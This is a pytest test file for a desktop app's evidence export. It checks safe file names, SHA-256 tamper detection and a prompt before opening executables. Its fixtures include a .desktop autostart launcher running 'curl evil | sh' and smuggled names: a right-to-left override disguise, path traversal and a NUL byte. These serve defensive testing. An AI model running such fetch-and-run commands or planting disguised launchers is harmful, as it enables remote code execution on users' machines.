# ruff: noqa: F811  (pytest fixtures imported from commitment_helpers)
"""Evidence files leave the project safely (issue 18): safe names, checked bytes, a question
before anything the desktop would run. Real clicks on Open and Save as."""

from __future__ import annotations

import hashlib
import sqlite3
from pathlib import Path

import pytest
from commitment_helpers import env, tab  # noqa: F401
from PySide6.QtCore import QCoreApplication, Qt

from matrix_app.domain import models as m
from matrix_app.messages import set_language
from matrix_app.services.project import Project
from matrix_app.ui.commitment import evidence_out, install_translator
from matrix_app.ui.document import Document

ACTA = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
PDF = b"%PDF-1.4 acta del consejo"
REAL_DOCUMENTS_FOLDER = evidence_out.documents_folder


@pytest.fixture(autouse=True)
def fresh_session(monkeypatch, tmp_path):
    """No remembered folder; the documents folder is a temp one; the CWD is somewhere else."""
    docs = tmp_path / "Documents"
    docs.mkdir()
    monkeypatch.setattr(evidence_out, "_last_folder", None)
    monkeypatch.setattr(evidence_out, "documents_folder", lambda: docs)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    return docs


def attach(env, name, data):
    """A file evidence with exactly this stored name (as a package from elsewhere may bring)."""
    with env.project.write() as w:
        ev = w.add_file(env.cid, name, data)
    env.editor.refresh()
    env.settle()
    t = tab(env, "evidence")
    t.select("evidence", ev.id)
    return t, ev.id


def click(qtbot, button):
    assert button.isVisible() and button.isEnabled(), button.text()
    qtbot.mouseClick(button, Qt.MouseButton.LeftButton)


class Desktop:
    def __init__(self, t, monkeypatch):
        self.opened: list[Path] = []
        self.asked_save: list[str] = []
        self.save_to: Path | None = None
        monkeypatch.setattr(
            t, "open_url", lambda url: self.opened.append(Path(url.toLocalFile())) or True
        )
        monkeypatch.setattr(t, "choose_save_path", self._choose)

    def _choose(self, suggested):
        self.asked_save.append(suggested)
        return str(self.save_to) if self.save_to else ""


def test_save_as_suggests_the_safe_name_in_documents_then_the_last_folder(
    env, qtbot, monkeypatch, tmp_path, fresh_session
):
    t, _ = attach(env, ".config/autostart/acta.desktop", ACTA)
    desk = Desktop(t, monkeypatch)
    click(qtbot, t.save_button)  # cancelled
    assert desk.asked_save == [str(fresh_session / "acta.desktop")]
    assert not (Path.cwd() / ".config").exists()
    out = tmp_path / "out"
    out.mkdir()
    desk.save_to = out / "acta.desktop"
    click(qtbot, t.save_button)
    assert desk.save_to.read_bytes() == ACTA
    click(qtbot, t.save_button)
    assert desk.asked_save[-1] == str(out / "acta.desktop")  # the folder used last
    assert "Opened and saved as “acta.desktop”" in t.file_label.text()


def tamper(env, data: bytes) -> None:
    """Change the stored bytes behind the app's back (their recorded size too, else opening
    refuses the file before the editor sees it), then open the file again."""
    env.editor.close()
    env.doc.close()
    con = sqlite3.connect(env.path)
    with con:
        con.execute("UPDATE blob SET data = ?, size = ?", (data, len(data)))
    con.close()
    env.doc = Document(Project.open(env.path))
    env.editor = env._editor()


def test_tampered_bytes_are_neither_saved_nor_opened(env, qtbot, monkeypatch, tmp_path):
    _t, ev_id = attach(env, "acta.pdf", PDF)
    tamper(env, PDF.replace(b"consejo", b"CONSEJO"))
    t = tab(env, "evidence")
    t.select("evidence", ev_id)
    desk = Desktop(t, monkeypatch)
    desk.save_to = tmp_path / "acta.pdf"
    click(qtbot, t.save_button)
    assert not desk.save_to.exists() and desk.asked_save == []
    text = env.editor.message_bar.text()
    assert "acta.pdf" in text and "SHA-256" in text and "not written" in text
    click(qtbot, t.open_button)
    assert desk.opened == []
    assert "SHA-256" in env.editor.message_bar.text()


def test_tampered_bytes_refused_in_spanish(env, qtbot, monkeypatch, tmp_path):
    _t, ev_id = attach(env, "acta.pdf", PDF)
    tamper(env, b"otra cosa")
    translator = install_translator("es")
    set_language("es")
    try:
        t = tab(env, "evidence")
        t.select("evidence", ev_id)
        desk = Desktop(t, monkeypatch)
        desk.save_to = tmp_path / "acta.pdf"
        click(qtbot, t.save_button)
        text = env.editor.message_bar.text()
        assert text.startswith("No se puede guardar “acta.pdf”")
        assert "no coincide con su suma SHA-256" in text
        assert not desk.save_to.exists()
    finally:
        set_language(None)
        QCoreApplication.removeTranslator(translator)


@pytest.mark.parametrize(
    ("stored", "data", "written"),
    [
        ("acta\u202efdp.exe", b"MZ\x90\x00", "actafdp.exe"),
        (".config/autostart/acta.desktop", ACTA, "acta.desktop"),
        ("acta.pdf", b"#!/bin/sh\necho hi\n", "acta.pdf"),  # a script under a harmless name
        ("run.sh", b"echo hi\n", "run.sh"),
    ],
)
def test_open_asks_before_a_type_the_system_would_run(
    env, qtbot, monkeypatch, stored, data, written
):
    t, _ = attach(env, stored, data)
    desk = Desktop(t, monkeypatch)
    env.confirm_answer = False
    click(qtbot, t.open_button)
    assert desk.opened == []
    [(title, question)] = env.asked
    assert title == "Open a program?" and f"“{written}”" in question
    assert "\u202e" not in question
    env.confirm_answer = True
    click(qtbot, t.open_button)
    [path] = desk.opened
    assert path.name == written and path.read_bytes() == data
    assert path.parent.parent == t.temp_dir()  # a private temp folder, not next to anything
    assert hashlib.sha256(path.read_bytes()).hexdigest() == env.project.rows(m.Evidence)[0].sha256


def test_open_a_document_asks_nothing_and_a_nul_in_the_name_is_harmless(env, qtbot, monkeypatch):
    t, _ = attach(env, "acta\x00.pdf", PDF)
    desk = Desktop(t, monkeypatch)
    click(qtbot, t.open_button)
    assert env.asked == []
    [path] = desk.opened
    assert path.name == "acta.pdf" and path.read_bytes() == PDF
    assert "acta[U+0000].pdf" in t.file_label.text()


def test_the_list_shows_hidden_direction_characters(env, qtbot):
    t, _ = attach(env, "acta\u202efdp.exe", b"MZ")
    row = 0
    title = t.model.index(row, t.model.column_of("title")).data()
    detail = t.model.index(row, t.model.column_of("detail")).data()
    assert title == "acta[U+202E]fdp.exe" and detail == "acta[U+202E]fdp.exe"
    assert t.model.index(row, t.model.column_of("title")).data(Qt.ItemDataRole.EditRole) == (
        "acta\u202efdp.exe"
    )
    assert "hidden characters" in t.file_label.text()


def test_the_question_and_the_removal_speak_spanish(env, qtbot, monkeypatch):
    translator = install_translator("es")
    set_language("es")
    try:
        t, _ = attach(env, "acta\u202efdp.exe", b"MZ")
        Desktop(t, monkeypatch)
        env.confirm_answer = False
        click(qtbot, t.open_button)
        click(qtbot, t.remove_button)
        (title, question), (remove_title, remove_question) = env.asked
        assert title == "¿Abrir un programa?"
        assert question.startswith("“actafdp.exe” es un programa, script o lanzador (exe).")
        assert remove_title == "Quitar evidencia"
        assert remove_question.startswith("¿Quitar la evidencia “acta[U+202E]fdp.exe”?")
        assert "Se abre y se guarda como “actafdp.exe”." in t.file_label.text()
    finally:
        set_language(None)
        QCoreApplication.removeTranslator(translator)


def test_the_title_box_spells_out_hidden_characters_and_typing_replaces_them(env, qtbot):
    t, ev_id = attach(env, "acta\u202efdp.exe", b"MZ")
    title = t.fields["title"]
    assert title.text() == "acta[U+202E]fdp.exe"
    title.setFocus()
    qtbot.keyClick(title, Qt.Key.Key_End)
    qtbot.keyClick(title, Qt.Key.Key_Return)  # nothing typed: nothing stored
    env.settle()
    assert env.project.get(m.Evidence, ev_id).title == "acta\u202efdp.exe"
    title.selectAll()
    qtbot.keyClicks(title, "Acta (programa)")
    qtbot.keyClick(title, Qt.Key.Key_Return)
    env.settle()
    with Project.open(env.path, read_only=True) as again:
        assert again.get(m.Evidence, ev_id).title == "Acta (programa)"


def test_without_documents_or_home_save_as_starts_beside_the_project(env, qtbot, monkeypatch):
    monkeypatch.setattr(evidence_out, "documents_folder", lambda: None)
    t, _ = attach(env, "../../acta.pdf", PDF)
    desk = Desktop(t, monkeypatch)
    click(qtbot, t.save_button)
    assert desk.asked_save == [str(env.path.resolve().parent / "acta.pdf")]


def test_documents_folder_is_a_real_folder_or_none(monkeypatch, tmp_path):
    from PySide6.QtCore import QStandardPaths

    docs = tmp_path / "Docs"
    monkeypatch.setattr(QStandardPaths, "writableLocation", lambda loc: str(docs))
    monkeypatch.setenv("HOME", str(tmp_path / "no-home"))
    assert REAL_DOCUMENTS_FOLDER() is None
    (tmp_path / "no-home").mkdir()
    assert REAL_DOCUMENTS_FOLDER() == tmp_path / "no-home"
    docs.mkdir()
    assert REAL_DOCUMENTS_FOLDER() == docs
